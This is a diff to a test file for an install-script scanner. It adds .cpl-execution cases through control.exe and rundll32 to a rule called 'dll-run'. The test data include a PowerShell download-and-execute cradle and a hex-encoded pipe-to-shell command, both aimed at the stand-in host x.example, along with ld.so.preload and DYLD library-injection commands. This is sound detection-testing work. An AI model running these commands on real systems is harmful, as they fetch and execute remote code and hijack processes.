@@ -381,6 +381,8 @@ def test_shell_file_variables_set_to_a_constant_are_expanded():
     ("powershell -NoP -C \"IEX ((New-Object Net.WebClient).DownloadString('https://x.example/s'))\"", "install-script/fetch-and-execute"),
     ("echo 6375726c202d6673532068747470733a2f2f782e6578616d706c652f73207c207368 | xxd -r -p | /bin/sh", "install-script/encoded-command"),
     ("echo /usr/local/lib/libprocesshider.so > /etc/ld.so.preload", "install-script/library-injection"),
+    ("start \"\" /b control.exe \"%LOCALAPPDATA%\\Themes\\iconcache.cpl\"", "install-script/dll-run"),
+    ("rundll32.exe shell32.dll,Control_RunDLL \"%TEMP%\\x.cpl\"", "install-script/dll-run"),
     ("/usr/libexec/PlistBuddy -c \"Add :LSEnvironment:DYLD_INSERT_LIBRARIES string @executable_path/../Frameworks/l.dylib\" "
      "/Applications/iTerm.app/Contents/Info.plist", "install-script/library-injection"),
     ("launchctl setenv DYLD_INSERT_LIBRARIES /tmp/l.dylib", "install-script/library-injection"),
@@ -401,11 +403,11 @@ def test_persistence_global_installs_and_download_cradles(command, rule):
                                      "reg query \"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Internet Settings\" /v ProxyServer",
                                      "cat /etc/ld.so.preload", "security authorizationdb read system.login.console",
                                      "reg query HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa /v \"Security Packages\"",
-                                     "ls /Library/Security/SecurityAgentPlugins", "xxd -r -p firmware.hex firmware.bin"])
+                                     "ls /Library/Security/SecurityAgentPlugins", "xxd -r -p firmware.hex firmware.bin", "control.exe desk.cpl"])
 def test_reading_cron_dns_and_proxy_settings_is_not_changing_them(command):
     found = rules(artifact({"postinstall": command}))
     assert not {"install-script/scheduled-task", "install-script/dns-tamper", "install-script/proxy-tamper",
-                "install-script/credential-dump", "install-script/library-injection", "install-script/encoded-command"} & found
+                "install-script/credential-dump", "install-script/library-injection", "install-script/encoded-command", "install-script/dll-run"} & found
 
 
 def test_harmless_inline_code_beside_a_batch_file_does_not_hide_the_file():
